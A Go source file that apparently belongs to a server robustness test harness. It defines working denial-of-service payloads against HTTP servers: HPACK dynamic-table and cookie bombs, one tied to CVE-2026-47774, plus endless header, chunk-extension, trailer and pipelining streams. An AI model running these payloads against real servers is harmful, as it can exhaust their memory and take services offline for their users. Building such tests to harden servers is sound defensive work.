package attack

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// bomb2 sends one block of indexed fields many times over.
func bomb2(name, about, field string, value int) Attack {
	return Attack{Name: name, About: about, Span: 8 * time.Second, Connections: 4, Again: 20, Closes: true, H2: true, one: func(v *victim) error {
		a, err := speak2(v)
		if err != nil {
			return err
		}
		v.sink()
		// The field enters the dynamic table (index 62), then one byte stands for it.
		first := append(a.fields("GET", "/"), 0x40, byte(len(field)))
		first = append(first, field...)
		if value < 127 {
			first = append(first, byte(value))
		} else {
			first = hpack7(first, value)
		}
		first = append(first, bytes.Repeat([]byte("v"), value)...)
		block := append(first, bytes.Repeat([]byte{0x80 | 62}, 16000-len(first))...)
		for n := uint32(0); n < 100_000 && !v.over(); n++ {
			if err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			v.sent.Add(1)
		}
		return nil
	}}
}

// endless writes start and then piece without end.
func endless(name, about, start, piece string) Attack {
	return Attack{Name: name, About: about, Span: 8 * time.Second, Connections: 8, Again: 50, Closes: true, one: func(v *victim) error {
		v.sink()
		if _, err := io.WriteString(v, start); err != nil {
			return err
		}
		pieces := []byte(strings.Repeat(piece, max(1, 16384/len(piece))))
		for range 100_000 {
			if v.over() {
				return nil
			}
			n, err := v.Write(pieces)
			v.sent.Add(int64(n))
			if err != nil {
				return err
			}
		}
		return nil
	}}
}

// bombs are small to send and large to hold.
func bombs() []Attack {
	post := "POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n"
	get := "GET / HTTP/1.1\r\nHost: a.test\r\n"
	tolerated := func(a Attack) Attack { a.Closes = false; return a }
	return []Attack{
		bomb2("hpack-bomb", "4,000 bytes in the dynamic table, named 12,000 times by one byte", "x", 3900),
		bomb2("hpack-bomb-small", "an empty field, named 16,000 times by one byte", "x", 0),
		bomb2("cookie-bomb", "a cookie crumb, named 12,000 times by one byte, CVE-2026-47774", "cookie", 3000),
		bomb2("cookie-bomb-small", "a cookie crumb of one byte, named 16,000 times", "cookie", 1),
		endless("many-fields", "a head of fields without end", get, "a: b\r\n"),
		endless("long-field", "one field without end", get+"a: ", "v"),
		endless("long-target", "a request line without end", "GET /", "v"),
		endless("empty-lines", "empty lines without end before a request", "", "\r\n"),
		endless("chunk-extensions", "an extension of one chunk without end", post+"1;a=", "v"),
		endless("chunk-zeros", "a chunk size of zeros without end", post, "0"),
		endless("trailers", "trailers without end", post+"0\r\n", "a: b\r\n"),
		tolerated(endless("tiny-chunks", "chunks of one byte without end", post, "1\r\nx\r\n")),
		tolerated(endless("tiny-chunks-extended", "chunks of one byte with an extension of 100", post, "1;"+strings.Repeat("e", 100)+"\r\nx\r\n")),
		tolerated(endless("pipeline", "requests without end, answers read", "", get+"\r\n")),
		unread("pipeline-unread", "requests without end, no answer read", get+"\r\n", true),
		endless("tls-garbage", "bytes that are no TLS, to a plain listener", "\x16\x03\x01\x40\x00", "x"),
	}
}

// unread writes piece without end, or once, and reads nothing.
func unread(name, about, piece string, again bool) Attack {
	return Attack{Name: name, About: about, Span: 40 * time.Second, Connections: 64, Closes: true, one: func(v *victim) error {
		pieces := []byte(piece)
		if again {
			pieces = bytes.Repeat(pieces, 1+16384/len(piece))
		}
		for again && !v.over() {
			n, err := v.Write(pieces)
			v.sent.Add(int64(n))
			if err != nil {
				return err
			}
		}
		if _, err := v.Write(pieces); err != nil {
			return err
		}
		return v.waitClosed()
	}}
}

// waitClosed asks the kernel now and then whether the peer closed, and reads
// nothing meanwhile.
func (v *victim) waitClosed() error {
	for v.pause(200 * time.Millisecond) {
		if closedUnread(v.Conn) {
			return fmt.Errorf("closed while unread: %w", io.EOF)
		}
	}
	return nil
}
